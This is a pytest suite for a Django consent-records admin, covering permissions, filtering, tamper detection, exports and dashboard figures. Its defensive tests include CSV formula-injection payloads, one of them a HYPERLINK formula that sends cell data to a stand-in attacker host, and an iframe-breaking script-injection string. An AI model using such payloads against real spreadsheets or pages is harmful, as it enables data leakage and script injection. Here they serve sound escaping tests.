"""The proof in the admin: looked at, found, exported and counted; never changed, and fast."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime, timedelta
from io import StringIO
from typing import Any
from uuid import UUID, uuid4

import pytest
from asgiref.sync import async_to_sync
from django.contrib.auth.models import User
from django.db import connection
from django.test import AsyncClient, Client
from django.test.utils import CaptureQueriesContext
from django.urls import NoReverseMatch, reverse
from django.utils import timezone
from django.utils.html import escape

from consent.admin import record_list, records
from consent.models import Counter, Policy, PolicyVersion, Record, day_of, granted_in
from consent.proof import record_files
from tests.admin.helpers import editor, said
from tests.helpers import OPTIONAL, SAME_ORIGIN, small_site

pytestmark = pytest.mark.django_db

RECORDS = "admin:consent_record_changelist"
RECORD = "admin:consent_record_change"
EXPORT = "admin:consent_record_export"
VERSIONS = "admin:consent_policyversion_changelist"
VERSION = "admin:consent_policyversion_change"
CONTENT = "admin:consent_policyversion_content"
COUNTERS = "admin:consent_counter_changelist"

API = "/consent/api/preferences/"
NOW = datetime(2026, 3, 10, 12, tzinfo=UTC)


@pytest.fixture(autouse=True)
def site() -> Policy:
    return small_site()


@pytest.fixture
def version() -> PolicyVersion:
    """What visitors are shown now, stored by a decision that was really made."""
    decide("functional")
    Record.objects.all().purge()
    Counter.objects.all().delete()
    return PolicyVersion.objects.get()


def decide(*granted: str, language: str = "en") -> Record:
    """Decide as a visitor does, in a browser of its own, and return the record."""
    visitor = Client(headers={**SAME_ORIGIN, "Accept-Language": language})
    choices = {key: key in granted for key in OPTIONAL}
    body = {"choices": choices, "source": "notice"}
    assert visitor.put(API, body, content_type="application/json").status_code == 200
    return Record.objects.latest("pk")


def store(version: PolicyVersion, *granted: str, number: int = 1, **fields: Any) -> list[Record]:
    """Store records that allow these categories, as many visitors would have made them."""
    choices = {key: int(key in granted) for key in OPTIONAL}
    start = Record.objects.count()
    made = []
    for place in range(start + 1, start + number + 1):
        given = {
            "receipt": uuid4(),
            "subject": uuid4(),
            "choices": choices,
            "granted": granted_in(choices),
            "action": "chosen" if granted else "reject_all",
            "source": "notice",
            "language": "en",
            "regime": "opt_in",
            "gpc": False,
            "revision": version.revision,
            "decided_at": NOW - timedelta(minutes=place),
            **fields,
        }
        record = Record(version=version, sequence=0, number=place, **given)
        record.sign(version.digest)
        made.append(record)
    count(granted_in(choices), number, day=day_of(NOW))
    return list(Record.objects.bulk_create(made))


def count(granted: str, number: int = 1, **fields: Any) -> None:
    kind = {
        "day": day_of(timezone.now()),
        "sequence": 0,
        "event": "chosen" if granted else "reject_all",
        "source": "notice",
        "regime": "opt_in",
    }
    Counter.objects.add(number, **{**kind, **fields}, granted=granted)


def tamper(record: Record, column: str, value: Any) -> None:
    """Change a record as somebody would who can write to the database."""
    with connection.cursor() as cursor:
        cursor.execute(
            f"UPDATE consent_record SET {column} = %s WHERE id = %s",  # noqa: S608
            [value, record.pk],
        )


def receipts(page: Any) -> set[UUID]:
    assert page.status_code == 200
    return {record.receipt for record in page.context["cl"].result_list}


def text_of(response: Any) -> str:
    return b"".join(response.streaming_content).decode()


def exported(client: Client, **selected: str) -> list[dict[str, Any]]:
    """Return the rows of the export as JSON Lines."""
    response = client.get(reverse(EXPORT), {"format": "jsonl", **selected})
    return [json.loads(line) for line in text_of(response).splitlines()]


# Who may see it


@pytest.mark.parametrize(
    ("name", "permissions"),
    [
        (RECORDS, ["view_record"]),
        (RECORD, ["view_record"]),
        (EXPORT, ["view_record", "export_record"]),
        (VERSIONS, ["view_policyversion"]),
        (VERSION, ["view_policyversion"]),
        (CONTENT, ["view_policyversion"]),
        (COUNTERS, ["view_counter"]),
    ],
)
def test_each_page_takes_its_own_permissions(name, permissions):
    record = decide("functional")
    pk = {RECORD: [record.pk], VERSION: [record.version_id], CONTENT: [record.version_id]}
    address = reverse(name, args=pk.get(name, []))
    query = {"format": "csv"} if name == EXPORT else {}
    others = {"view_record", "view_policyversion", "view_counter", "view_tool"} - {*permissions}

    assert editor(*permissions).get(address, query).status_code == 200
    assert editor(*others).get(address, query).status_code == 403
    assert "/login/" in Client().get(address, query).headers["Location"]


@pytest.mark.parametrize("permission", ["view_record", "export_record"])
def test_export_takes_both_looking_and_exporting(permission):
    client = editor(permission)
    assert client.get(reverse(EXPORT), {"format": "csv"}).status_code == 403


def test_only_who_may_export_is_offered_it():
    assert "export/" not in editor("view_record").get(reverse(RECORDS)).content.decode()
    page = editor("view_record", "export_record").get(reverse(RECORDS)).content.decode()
    assert page.count("export/?format=") == 2
    dashboard = editor("view_counter").get(reverse(COUNTERS)).content.decode()
    assert "export/" not in dashboard


# Nothing can be changed


@pytest.mark.parametrize("model", ["record", "policyversion"])
def test_nobody_adds_changes_or_deletes(admin_client, model):
    record = decide("functional")
    thing = record if model == "record" else record.version
    pages = {
        "add": reverse(f"admin:consent_{model}_add"),
        "change": reverse(f"admin:consent_{model}_change", args=[thing.pk]),
        "delete": reverse(f"admin:consent_{model}_delete", args=[thing.pk]),
    }
    for what, address in pages.items():
        assert admin_client.post(address, {"post": "yes", "user": "9"}).status_code == 403, what
    assert admin_client.get(pages["add"]).status_code == 403
    assert admin_client.get(pages["delete"]).status_code == 403
    admin_client.post(
        reverse(f"admin:consent_{model}_changelist"),
        {"action": "delete_selected", "_selected_action": [thing.pk], "post": "yes"},
    )
    page = admin_client.get(pages["change"]).content.decode()
    assert 'name="_save"' not in page
    assert Record.objects.get().user == ""
    assert PolicyVersion.objects.count() == 1


def test_counter_has_no_page_of_its_own(admin_client):
    count("functional")
    for name in ("add", "change", "delete", "history"):
        with pytest.raises(NoReverseMatch):
            reverse(f"admin:consent_counter_{name}", args=[] if name == "add" else [1])


# Found


def test_list_says_what_was_decided_newest_first(admin_client, version):
    store(version, "functional", "advertising", source="preferences", gpc=True)
    store(version, language="de")
    page = admin_client.get(reverse(RECORDS))
    assert [record.language for record in page.context["cl"].result_list] == ["en", "de"]
    content = page.content.decode()
    for shown in ("advertising, functional", "Chose some", "Preferences", "Opt-in"):
        assert shown in content


def test_filter_by_date_takes_whole_days_from_and_to(admin_client, version):
    days = [datetime(2026, 3, day, hour, tzinfo=UTC) for day, hour in ((8, 23), (9, 0), (10, 23))]
    made = [store(version, decided_at=moment)[0].receipt for moment in days]
    address = reverse(RECORDS)
    assert receipts(admin_client.get(address, {"from": "2026-03-09"})) == {*made[1:]}
    assert receipts(admin_client.get(address, {"to": "2026-03-09"})) == {*made[:2]}
    between = {"from": "2026-03-09", "to": "2026-03-09"}
    assert receipts(admin_client.get(address, between)) == {made[1]}


def test_usual_ranges_are_links(admin_client, version):
    now = timezone.now()
    ages = {"today": timedelta(), "week": timedelta(days=6), "old": timedelta(days=800)}
    made = {name: store(version, decided_at=now - age)[0].receipt for name, age in ages.items()}
    page = admin_client.get(reverse(RECORDS))
    specs = page.context["cl"].filter_specs
    period = next(spec for spec in specs if isinstance(spec, records.PeriodFilter))
    links = {str(c["display"]): c["query_string"] for c in period.choices(page.context["cl"])}

    def of(name: str) -> set[UUID]:
        return receipts(admin_client.get(reverse(RECORDS) + links[name]))

    assert of("Any date") == {*made.values()}
    assert of("Today") == {made["today"]}
    assert of("Past 7 days") == {made["today"], made["week"]}
    assert made["today"] in of("This month")
    assert made["old"] not in of("This year")


def test_filter_by_action(admin_client, version):
    (chosen,) = store(version, "functional")
    (withdrawn,) = store(version, action="withdrawn")
    address = reverse(RECORDS)
    assert receipts(admin_client.get(address, {"action__exact": "chosen"})) == {chosen.receipt}
    page = admin_client.get(address, {"action__exact": "withdrawn"})
    assert receipts(page) == {withdrawn.receipt}


def test_filter_by_category_that_is_allowed_or_not(admin_client, version):
    (both,) = store(version, "functional", "advertising")
    (one,) = store(version, "advertising")
    (none,) = store(version)
    address = reverse(RECORDS)
    assert receipts(admin_client.get(address, {"category": "functional"})) == {both.receipt}
    page = admin_client.get(address, {"category": "-functional"})
    assert receipts(page) == {one.receipt, none.receipt}
    assert receipts(admin_client.get(address, {"category": "nonsense"})) == set()


def test_category_that_is_gone_can_still_be_filtered_by(admin_client, version):
    (old,) = store(version, "functional")
    tamper(old, "granted", "surveys")
    count("surveys")
    page = admin_client.get(reverse(RECORDS), {"category": "surveys"})
    assert receipts(page) == {old.receipt}
    assert "surveys: allowed" in page.content.decode()
    assert "Functional: not allowed" in page.content.decode()


def test_filters_work_together_and_keep_each_other(admin_client, version):
    (wanted,) = store(version, "functional")
    store(version, "functional", action="renewed")
    store(version)
    query = {"category": "functional", "action__exact": "chosen", "from": "2026-03-10"}
    page = admin_client.get(reverse(RECORDS), query)
    assert receipts(page) == {wanted.receipt}
    assert '<input type="hidden" name="category" value="functional">' in page.content.decode()


def test_search_finds_a_receipt_with_hyphens_and_without(admin_client, version):
    wanted, *_ = store(version, number=3)
    for text in (str(wanted.receipt), f" {wanted.receipt.hex.upper()} "):
        page = admin_client.get(reverse(RECORDS), {"q": text})
        assert receipts(page) == {wanted.receipt}
        assert said(page) == []
    assert receipts(admin_client.get(reverse(RECORDS), {"q": str(uuid4())})) == set()


@pytest.mark.parametrize("cut", [slice(8), slice(35)])
def test_search_for_anything_else_says_what_is_needed(admin_client, version, cut):
    (record,) = store(version, user="17")
    for text in (str(record.receipt)[cut], "18", "%", "notice"):
        page = admin_client.get(reverse(RECORDS), {"q": text})
        assert receipts(page) == set()
        assert said(page)[0].startswith("The search term is not a receipt.")


def test_search_finds_a_subject_and_a_user(admin_client, version):
    user = User.objects.create_user("jane")
    (wanted,) = store(version, user=str(user.pk))
    store(version, user=str(user.pk + 1))
    for text in (str(wanted.subject), "jane", str(user.pk)):
        page = admin_client.get(reverse(RECORDS), {"q": text})
        assert receipts(page) == {wanted.receipt}
        assert said(page) == []


@pytest.mark.parametrize(
    ("query", "fields"),
    [
        ({"regime__exact": "implied"}, {"regime": "implied"}),
        ({"gpc__exact": "1"}, {"gpc": True}),
        ({"language": "de"}, {"language": "de"}),
    ],
)
def test_filters_by_legal_basis_signal_and_language(admin_client, version, query, fields):
    store(version)
    (wanted,) = store(version, **fields)
    page = admin_client.get(reverse(RECORDS), query)
    assert receipts(page) == {wanted.receipt}
    assert [row["receipt"] for row in exported(admin_client, **query)] == [str(wanted.receipt)]


def test_languages_to_filter_by_are_those_of_stored_texts(admin_client):
    for language in ("de", "en", "de"):
        decide(language=language)
    page = admin_client.get(reverse(RECORDS)).content.decode()
    assert page.count("?language=") == 2
    assert "?language=de" in page


def test_address_selects_by_subject_and_user_and_by_nothing_that_has_no_index(
    admin_client, version
):
    (wanted,) = store(version, user="17")
    store(version, user="18")
    address = reverse(RECORDS)
    for query in ({"subject": str(wanted.subject)}, {"user": "17"}):
        assert receipts(admin_client.get(address, query)) == {wanted.receipt}
    for name in ("user__contains", "receipt__startswith", "source", "version__content__contains"):
        assert admin_client.get(address, {name: "1"}).status_code == 400, name


@pytest.mark.parametrize("query", ["from=nonsense", "to=2026-02-30", "from=999999999-01-01"])
def test_day_that_is_none_is_refused(admin_client, query):
    assert admin_client.get(f"{reverse(RECORDS)}?{query}").status_code == 400
    assert admin_client.get(f"{reverse(EXPORT)}?format=csv&{query}").status_code == 400


@pytest.mark.parametrize("query", ["subject=1", "user=%00", "to=9999-12-31", "from=0001-01-01"])
def test_junk_in_the_address_is_no_error(admin_client, version, query):
    store(version)
    assert admin_client.get(f"{reverse(RECORDS)}?{query}").status_code < 500
    response = admin_client.get(f"{reverse(EXPORT)}?format=csv&{query}")
    assert response.status_code == 400 or text_of(response)


def test_pages_lead_to_newer_and_older_records(admin_client, version):
    made = [record.receipt for record in store(version, number=120)]
    seen, address = [], reverse(RECORDS) + "?category=-functional"
    for _ in range(3):
        page = admin_client.get(address)
        seen += [record.receipt for record in page.context["cl"].result_list]
        older = re.search(r'href="([^"]*)" rel="next"', page.content.decode())
        address = reverse(RECORDS) + older[1].replace("&amp;", "&") if older else ""
    assert seen == made
    assert address == ""
    assert re.search(r'href="[^"]*p=2[^"]*" rel="prev"', page.content.decode())
    assert "category=-functional" in page.content.decode()


def test_last_page_that_is_offered_says_how_to_see_older_ones(admin_client, version, monkeypatch):
    monkeypatch.setattr(record_list, "MAX_PAGES", 2)
    store(version, number=120)
    page = admin_client.get(reverse(RECORDS), {"p": "3"})
    assert page.context["cl"].page_num == 2
    assert 'rel="next"' not in page.content.decode()
    assert "choose an end date" in page.content.decode()


@pytest.mark.parametrize("page", ["0", "-7", "x", "99999999999999999999"])
def test_page_that_does_not_exist_is_no_error(admin_client, version, page):
    store(version)
    assert admin_client.get(reverse(RECORDS), {"p": page}).status_code == 200


def test_empty_list_says_so(admin_client):
    assert "No record was found." in admin_client.get(reverse(RECORDS)).content.decode()


def queries(number: int = 1) -> list[tuple[str, dict[str, str]]]:
    """Return every way to ask for records that the admin offers."""
    return [
        ("list", {}),
        ("page", {"p": "100"}),
        ("date", {"from": "2026-03-01", "to": "2026-03-09"}),
        ("action", {"action__exact": "withdrawn"}),
        ("allowed", {"category": "functional"}),
        ("not allowed", {"category": "-functional"}),
        (
            "all of them",
            {"category": "-functional", "action__exact": "chosen", "from": "2026-01-01"},
        ),
        ("search", {"q": str(UUID(int=number))}),
        ("search for a user", {"q": "17"}),
        ("regime", {"regime__exact": "implied"}),
        ("signal", {"gpc__exact": "1"}),
        ("language", {"language": "de"}),
        ("subject", {"subject": str(UUID(int=number))}),
        ("user", {"user": "17"}),
    ]


@pytest.mark.parametrize("query", [pytest.param(query, id=name) for name, query in queries()])
def test_list_and_filters_take_few_queries_and_count_nothing(admin_client, version, query):
    store(version, "functional", number=60)
    with CaptureQueriesContext(
        connection,
    ) as captured:
        assert admin_client.get(reverse(RECORDS), query).status_code == 200
    assert len(captured) <= 15
    counting = [each["sql"] for each in captured if "COUNT(" in each["sql"].upper()]
    assert not [sql for sql in counting if Record._meta.db_table in sql]


# Looked at


def test_record_page_says_everything_and_that_it_is_genuine(admin_client):
    record = decide("functional", language="de")
    content = admin_client.get(reverse(RECORD, args=[record.pk])).content.decode()
    for value in (record.receipt, record.subject, record.signature, "Genuine:", "functional"):
        assert str(value) in content
    assert "advertising, marketing-analytics" in content
    assert reverse(VERSION, args=[record.version_id]) in content
    assert f"{reverse(RECORDS)}?subject={record.subject}" in content


@pytest.mark.parametrize(
    ("column", "value", "words"),
    [
        ("granted", "advertising", "Altered:"),
        ("choices", "[17, 18]", "Altered:"),
        ("user", "<b>17</b>", "Altered:"),
        ("signature", "00000000:00", "Cannot be checked:"),
    ],
)
def test_record_page_says_in_words_what_is_wrong(admin_client, column, value, words):
    record = decide("functional")
    quoted = connection.ops.quote_name(column)
    tamper(record, quoted, value)
    content = admin_client.get(reverse(RECORD, args=[record.pk])).content.decode()
    assert words in content
    assert "Genuine:" not in content
    assert escape(value) in content


def test_user_of_a_record_leads_to_their_records(admin_client, version):
    (record,) = store(version, user="a b&c")
    content = admin_client.get(reverse(RECORD, args=[record.pk])).content.decode()
    assert f'href="{reverse(RECORDS)}?user=a+b%26c"' in content


# Shown again


def test_version_is_shown_again_in_its_language_as_it_was(admin_client, site):
    version = decide("functional", language="de").version
    site.categories.filter(key="functional").update(name="Something else")
    content = admin_client.get(reverse(VERSION, args=[version.pk])).content.decode()
    assert "Genuine:" in content
    parts = {
        part.key: part.document
        for part in admin_client.get(reverse(VERSION, args=[version.pk])).context["parts"]
    }
    assert "Alle akzeptieren" in parts["notice"]
    assert version.shown["policy"]["notice_text"][:40] in parts["notice"]
    assert "Einige Tools anderer Unternehmen" in parts["notice"]
    assert '<html lang="de" dir="ltr">' in parts["notice"]
    assert "Something else" not in parts["preferences"]
    assert 'value="functional"' in parts["preferences"]
    assert "_ga_*" in parts["policy"]
    # The admin itself stays in its own language.
    assert '<h2 id="dcp-admin-preferences">Preferences</h2>' in content


def test_frames_can_run_submit_and_open_nothing(admin_client):
    version = decide("functional").version
    content = admin_client.get(reverse(VERSION, args=[version.pk])).content.decode()
    frames = re.findall(r"<iframe\b[^>]*>", content)
    assert len(frames) == 3
    for frame in frames:
        assert re.search(r'\ssandbox(=""|\s)', frame)
        assert "allow-" not in frame
        assert "&lt;script" not in frame
        assert "&lt;base target=&quot;_blank&quot;" in frame


@pytest.mark.parametrize(
    "stored", ["", "[]", "{}", '{"policy": 1, "categories": []}', '{"policy": {}, "categories": 7}']
)
def test_version_that_was_altered_says_so(admin_client, stored):
    version = decide("functional").version
    with connection.cursor() as cursor:
        cursor.execute("UPDATE consent_policyversion SET content = %s", [stored])
    page = admin_client.get(reverse(VERSION, args=[version.pk]))
    assert page.status_code == 200
    assert "Altered:" in page.content.decode()
    assert "This version cannot be shown" in page.content.decode()


def test_what_was_stored_never_leaves_its_frame(admin_client):
    version = decide("functional").version
    shown = version.shown
    shown["policy"]["notice_text"] = '"></iframe><script>alert(1)</script>'
    with connection.cursor() as cursor:
        cursor.execute("UPDATE consent_policyversion SET content = %s", [json.dumps(shown)])
    content = admin_client.get(reverse(VERSION, args=[version.pk])).content.decode()
    assert "<script>alert(1)" not in content
    assert "&lt;script&gt;alert(1)" not in content.replace("&amp;lt;", "")


def test_content_is_downloaded_byte_for_byte(admin_client):
    version = decide("functional").version
    response = admin_client.get(reverse(CONTENT, args=[version.pk]))
    assert response.content.decode() == version.content
    assert response.headers["Content-Type"] == "application/json"
    assert f"policy-2-{version.digest[:16]}.json" in response.headers["Content-Disposition"]
    assert admin_client.get(reverse(CONTENT, args=[version.pk + 1])).status_code == 404


def test_list_of_versions_reads_no_contents(admin_client):
    decide("functional")
    with CaptureQueriesContext(connection) as captured:
        page = admin_client.get(reverse(VERSIONS))
    assert PolicyVersion.objects.get().digest[:16] in page.content.decode()
    assert len(captured) <= 15
    assert not [query for query in captured if '"content"' in query["sql"]]


# Exported


def test_json_lines_have_everything_as_it_is_stored(admin_client):
    record = decide("functional")
    tamper(record, connection.ops.quote_name("user"), "=1+1")
    (row,) = exported(admin_client)
    assert row == {
        "receipt": str(record.receipt),
        "subject": str(record.subject),
        "user": "=1+1",
        "decided_at": record.decided_at.astimezone(UTC).isoformat(),
        "erased_at": "",
        "action": "chosen",
        "source": "notice",
        "revision": 2,
        "version": record.version.digest,
        "language": "en",
        "regime": "opt_in",
        "gpc": False,
        "choices": {"functional": 2, "marketing-analytics": 0, "advertising": 0},
        "sequence": record.sequence,
        "number": record.number,
        "signature": record.signature,
    }


HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1",
    "-1",
    "@x",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",  # noqa: RUF001
]


def test_no_cell_of_the_csv_is_a_formula(admin_client, version):
    for user in HOSTILE:
        store(version, user=user)
    response = admin_client.get(reverse(EXPORT), {"format": "csv"})
    rows = list(csv.reader(StringIO(text_of(response), newline="")))
    assert rows[0] == list(record_files.COLUMNS)
    assert [row[2] for row in rows[1:]] == [f"'{user}" for user in HOSTILE]
    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r" and cell]


def test_csv_is_as_rfc_4180_has_it_and_harmless_cells_stay(admin_client, version):
    (record,) = store(version, "functional", user='a"b,c\nd')
    text = text_of(admin_client.get(reverse(EXPORT), {"format": "csv"}))
    assert text.startswith("receipt,subject,user,decided_at,")
    assert text.endswith("\r\n")
    assert '"a""b,c\nd"' in text
    (row,) = csv.DictReader(StringIO(text, newline=""))
    assert row["user"] == 'a"b,c\nd'
    assert json.loads(row["choices"]) == record.choices
    assert row["gpc"] == "false"
    assert row["decided_at"] == record.decided_at.isoformat()


def test_export_has_what_the_list_selects(admin_client, version):
    (wanted,) = store(version, "functional", user="17")
    store(version, "advertising")
    store(version, "functional", decided_at=NOW - timedelta(days=3))
    for query in (
        {"category": "functional", "from": "2026-03-10", "p": "7"},
        {"q": str(wanted.receipt)},
        {"user": "17"},
        {"q": "17"},
    ):
        assert [row["receipt"] for row in exported(admin_client, **query)] == [str(wanted.receipt)]
    assert exported(admin_client, q="18") == []
    assert len(exported(admin_client)) == 3


def test_links_to_the_export_carry_the_filters(admin_client, version):
    store(version, "functional", number=60)
    page = admin_client.get(reverse(RECORDS), {"category": "functional", "p": "2"})
    links = [address for _, address in page.context["exports"]]
    assert links == [
        f"{reverse(EXPORT)}?category=functional&format={key}" for key in ("csv", "jsonl")
    ]
    assert escape(links[0]) in page.content.decode()


@pytest.mark.parametrize("file_format", ["csv", "jsonl"])
def test_export_is_a_file_that_nobody_keeps(admin_client, file_format):
    response = admin_client.get(reverse(EXPORT), {"format": file_format})
    name = f"consent-records-{timezone.localdate().isoformat()}.{file_format}"
    assert response.headers["Content-Disposition"] == f'attachment; filename="{name}"'
    assert "no-store" in response.headers["Cache-Control"]
    assert len(text_of(response).splitlines()) == (1 if file_format == "csv" else 0)


@pytest.mark.parametrize("query", [{}, {"format": "xlsx"}, {"format": "csv", "user__regex": "("}])
def test_export_of_nonsense_is_refused(admin_client, query):
    assert admin_client.get(reverse(EXPORT), query).status_code == 400


def test_export_reads_one_batch_after_another_while_it_is_sent(admin_client, version, monkeypatch):
    monkeypatch.setattr(record_files, "BATCH", 10)
    store(version, number=25)
    with CaptureQueriesContext(connection) as opening:
        response = admin_client.get(reverse(EXPORT), {"format": "jsonl"})
    assert response.streaming
    chunks: Iterator[bytes] = iter(response.streaming_content)
    taken = []
    for expected in (10, 10, 5):
        with CaptureQueriesContext(connection) as captured:
            taken.append(next(chunks).decode().splitlines())
        assert len(taken[-1]) == expected
        assert len(captured) == 1
        assert "LIMIT 10" in captured[0]["sql"]
    assert next(chunks, None) is None
    assert len({line for lines in taken for line in lines}) == 25
    assert len(opening) <= 15


def test_export_is_streamed_by_asynchronous_servers_too(version):
    store(version, number=3)
    user = User.objects.create_superuser("root")

    async def read() -> tuple[bool, bytes]:
        client = AsyncClient()
        await client.aforce_login(user)
        response = await client.get(reverse(EXPORT), {"format": "jsonl"})
        return response.is_async, b"".join([chunk async for chunk in response.streaming_content])

    is_async, content = async_to_sync(read)()
    assert is_async
    assert len(content.splitlines()) == 3


# Counted


def dashboard(client: Client, **query: str) -> Any:
    page = client.get(reverse(COUNTERS), query)
    assert page.status_code == 200
    return page.context["figures"]


def test_dashboard_has_the_figures_of_known_decisions(admin_client):
    today = day_of(timezone.now())
    before = today - timedelta(days=6)
    count("", 20, event=Counter.SHOWN)
    count("", 5, event=Counter.SHOWN, day=before)
    count("advertising functional", 3, event="accept_all")
    count("functional", 1, day=before, source="preferences", regime="implied")
    count("", 4, event="reject_all", sequence=3)
    count("functional", 100, day=today - timedelta(days=7))

    figures = dashboard(admin_client, days="7")
    assert (figures.notices, figures.decisions, figures.undecided) == (25, 8, 17)
    assert figures.names == ["Functional", "Marketing analytics", "Advertising"]
    shares = {chart["name"]: (chart["share"], chart["number"]) for chart in figures.charts}
    assert shares == {
        "Functional": ("50%", 4),
        "Marketing analytics": ("0%", 0),
        "Advertising": ("38%", 3),
    }
    rows = [(row["label"], row["notices"], row["decisions"]) for row in figures.daily]
    assert rows == [(today, 20, 7), (before, 5, 1)]
    assert [cell["number"] for cell in figures.daily[0]["cells"]] == [3, 0, 3]
    regimes, sources = figures.breakdowns
    assert {(str(r["label"]), r["decisions"]) for r in regimes["rows"]} == {
        ("Opt-in", 7),
        ("Implied", 1),
    }
    assert {(str(r["label"]), r["cells"][0]["share"]) for r in sources["rows"]} == {
        ("Notice", "43%"),
        ("Preferences", "100%"),
    }
    actions = {str(row["label"]): row["number"] for row in figures.actions}
    assert (actions["Accepted all"], actions["Rejected all"], actions["Withdrew"]) == (3, 4, 0)


def test_dashboard_counts_what_visitors_really_decide(admin_client):
    decide("functional")
    decide()
    figures = dashboard(admin_client)
    assert (figures.decisions, figures.undecided) == (2, 0)
    assert figures.charts[0]["share"] == "50%"


@pytest.mark.parametrize("active", ["UTC", "Pacific/Auckland"])
def test_statistics_and_exports_have_the_same_days(admin_client, settings, monkeypatch, active):
    settings.TIME_ZONE = "America/New_York"
    late = datetime(2026, 3, 11, 2, tzinfo=UTC)  # 10 p.m. on the day before in New York
    monkeypatch.setattr("django.utils.timezone.now", lambda: late)
    decide()

    with timezone.override(active):
        (day,) = dashboard(admin_client).daily
        (address,) = [
            address
            for label, address in admin_client.get(reverse(COUNTERS)).context["exports"]
            if label == "CSV"
        ]
        selected = f"?from={day['label'].isoformat()}&to={day['label'].isoformat()}&format=jsonl"
        body = b"".join(admin_client.get(f"{reverse(EXPORT)}{selected}").streaming_content)

    assert day["label"] == date(2026, 3, 10)
    assert "from=2026-02-09" in address
    assert len(body.splitlines()) == 1


def test_category_that_is_gone_stays_in_the_figures(admin_client):
    count("surveys values", 2)
    figures = dashboard(admin_client)
    assert figures.names[-2:] == ["surveys", "values"]
    assert figures.charts[-1]["share"] == "100%"


def test_charts_have_a_bar_for_each_day_with_decisions_and_words(admin_client):
    today: date = day_of(timezone.now())
    count("functional", 1, day=today - timedelta(days=89))
    count("", 3)
    page = admin_client.get(reverse(COUNTERS), {"days": "90"}).content.decode()
    chart = page[page.index("<svg viewBox") :][:1500]
    assert 'viewBox="0 0 900 100"' in chart
    assert 'role="img"' in chart
    assert "between 0% and 100% of the decisions allow it" in chart
    bars = re.findall(r'<rect x="(\d+)" y="(\d+)"', chart[: chart.index("</svg>")])
    assert bars == [("1", "0"), ("891", "98")]
    assert "<script" not in page[page.index("dcp-admin-dashboard") : page.index("By action")]


def test_dashboard_without_a_decision_says_so(admin_client):
    count("", 9, event=Counter.SHOWN)
    page = admin_client.get(reverse(COUNTERS))
    assert "There are no decisions in this period." in page.content.decode()
    assert page.context["figures"].undecided == 9
    Policy.objects.all().delete()
    Counter.objects.all().delete()
    assert admin_client.get(reverse(COUNTERS)).status_code == 200


def test_dashboard_takes_as_many_queries_however_much_was_counted(admin_client):
    def taken() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert admin_client.get(reverse(COUNTERS), {"days": "365"}).status_code == 200
        return len(captured)

    count("functional")
    before = taken()
    for ago in range(30):
        day = day_of(timezone.now()) - timedelta(days=ago)
        for granted in ("functional", "advertising", "surveys", ""):
            count(granted, day=day, source="api", sequence=ago % 16)
    assert taken() == before <= 12


@pytest.mark.parametrize("days", ["8", "0", "-7", "x", "99999"])
def test_period_that_is_not_offered_is_refused(admin_client, days):
    assert admin_client.get(reverse(COUNTERS), {"days": days}).status_code == 400


def test_dashboard_leads_to_the_export_of_its_period(admin_client):
    page = admin_client.get(reverse(COUNTERS), {"days": "7"})
    first = timezone.localdate() - timedelta(days=6)
    addresses = [address for _, address in page.context["exports"]]
    assert addresses[0] == f"{reverse(EXPORT)}?from={first.isoformat()}&format=csv"
    assert admin_client.get(addresses[0]).status_code == 200


# Fast

MANY = 200_000

FILL = """
    INSERT INTO consent_record (
        receipt, subject, "user", version_id, revision, choices, granted, action, source, language,
        regime, gpc, decided_at, sequence, number, signature
    )
    SELECT
        lpad(to_hex(n), 32, '0')::uuid, lpad(to_hex(n / 3), 32, '0')::uuid,
        CASE WHEN n %% 50 = 0 THEN (n / 500)::text ELSE '' END, %(version)s, 2,
        '{"functional": 2, "advertising": 0}',
        (ARRAY['', 'functional', 'advertising functional', 'advertising'])[1 + n %% 4],
        (ARRAY['accept_all', 'reject_all', 'chosen', 'renewed'])[1 + n %% 4],
        'notice', 'en', 'opt_in', false, %(now)s::timestamptz - n * interval '1 minute',
        n %% 16, n, 'key:mac'
    FROM generate_series(1, %(many)s) AS n
"""


def fill(version: PolicyVersion, many: int = MANY) -> None:
    """Store many records at once, as years of a busy website would."""
    with connection.cursor() as cursor:
        cursor.execute(FILL, {"version": version.pk, "now": NOW, "many": many})
        for granted in ("", "functional", "advertising functional", "advertising"):
            count(granted, many // 4)
        cursor.execute("ANALYZE consent_record")


def plans(get: Callable[[], Any]) -> list[tuple[str, str]]:
    """Return each query about records that a page makes, with the plan that is made for it."""
    with CaptureQueriesContext(connection) as captured:
        get()
    found = []
    for query in captured.captured_queries:
        if "consent_record" in query["sql"] and query["sql"].startswith("SELECT"):
            with connection.cursor() as cursor:
                cursor.execute("EXPLAIN " + query["sql"].replace("%", "%%"), [])
                found.append((query["sql"], "\n".join(row[0] for row in cursor.fetchall())))
    return found


@pytest.mark.skipif(connection.vendor != "postgresql", reason="asks PostgreSQL for its plans")
def test_every_way_to_ask_for_records_has_an_index(admin_client, version, monkeypatch):
    monkeypatch.setattr(record_files, "BATCH", 2_000)
    fill(version)
    for name, query in queries(number=1_000):
        found = plans(lambda query=query: admin_client.get(reverse(RECORDS), query))
        # A term that is no receipt is looked for once more, to say so if nothing was found.
        assert len(found) == (2 if name == "search for a user" else 1), name
        for sql, plan in found:
            assert "Seq Scan on consent_record" not in plan, f"{name}\n{sql}\n{plan}"
            assert "COUNT(" not in sql
    pk = Record.objects.values_list("pk", flat=True)[0]
    for sql, plan in plans(lambda: admin_client.get(reverse(RECORD, args=[pk]))):
        assert "Seq Scan on consent_record" not in plan, f"{sql}\n{plan}"


@pytest.mark.skipif(connection.vendor != "postgresql", reason="asks PostgreSQL for its plans")
def test_each_batch_of_an_export_has_an_index(admin_client, version):
    fill(version)

    def first_chunks() -> None:
        response = admin_client.get(reverse(EXPORT), {"format": "jsonl", "category": "functional"})
        chunks = iter(response.streaming_content)
        assert next(chunks)
        assert next(chunks)

    for sql, plan in plans(first_chunks):
        assert "Seq Scan on consent_record" not in plan, f"{sql}\n{plan}"


@pytest.mark.parametrize(("revision", "is_known"), [(None, True), (1, False), (0, False)])
def test_record_says_where_the_text_that_was_shown_is_not_known(
    admin_client, version, revision, is_known
):
    fields = {"revision": version.revision if revision is None else revision}
    (record,) = store(version, **fields)

    page = admin_client.get(reverse("admin:consent_record_change", args=[record.pk]))

    assert ("The text that was shown is not known" in page.content.decode()) is not is_known
